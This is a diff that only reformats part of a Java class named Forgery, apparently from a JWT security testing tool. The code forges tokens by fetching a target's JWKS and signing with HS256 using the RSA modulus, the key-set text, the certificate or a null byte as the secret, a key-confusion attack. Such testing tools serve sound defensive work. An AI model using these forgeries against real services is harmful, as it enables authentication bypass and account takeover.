@@ -35,8 +35,10 @@ final class Forgery implements Attack {
 
     private static List<String> tokens(Target target) throws Exception {
         String[] good = target.token().split("\\.");
-        ObjectNode header = (ObjectNode) Target.JSON.readTree(Base64.getUrlDecoder().decode(good[0]));
-        ObjectNode claims = (ObjectNode) Target.JSON.readTree(Base64.getUrlDecoder().decode(good[1]));
+        ObjectNode header =
+                (ObjectNode) Target.JSON.readTree(Base64.getUrlDecoder().decode(good[0]));
+        ObjectNode claims =
+                (ObjectNode) Target.JSON.readTree(Base64.getUrlDecoder().decode(good[1]));
         KeyPairGenerator generator = KeyPairGenerator.getInstance("RSA");
         generator.initialize(2048);
         KeyPair own = generator.generateKeyPair();
@@ -62,12 +64,25 @@ final class Forgery implements Attack {
     private static List<String> signedBySecret(Target target, ObjectNode header, ObjectNode claims) throws Exception {
         String keys = target.send(target.to("/.well-known/jwks.json").build()).body();
         byte[] modulus = Base64.getUrlDecoder()
-                .decode(Target.JSON.readTree(keys).path("keys").path(0).path("n").asText());
-        String certificate =
-                Target.JSON.readTree(keys).path("keys").path(0).path("x5c").path(0).asText();
+                .decode(Target.JSON
+                        .readTree(keys)
+                        .path("keys")
+                        .path(0)
+                        .path("n")
+                        .asText());
+        String certificate = Target.JSON
+                .readTree(keys)
+                .path("keys")
+                .path(0)
+                .path("x5c")
+                .path(0)
+                .asText();
         List<String> tokens = new ArrayList<>();
         for (byte[] secret : List.of(
-                modulus, keys.getBytes(StandardCharsets.UTF_8), certificate.getBytes(StandardCharsets.UTF_8), new byte[] {0})) {
+                modulus,
+                keys.getBytes(StandardCharsets.UTF_8),
+                certificate.getBytes(StandardCharsets.UTF_8),
+                new byte[] {0})) {
             Mac mac = Mac.getInstance("HmacSHA256");
             mac.init(new SecretKeySpec(secret.length == 0 ? new byte[1] : secret, "HmacSHA256"));
             String content = encoded(header.deepCopy().put("alg", "HS256")) + "." + encoded(claims);
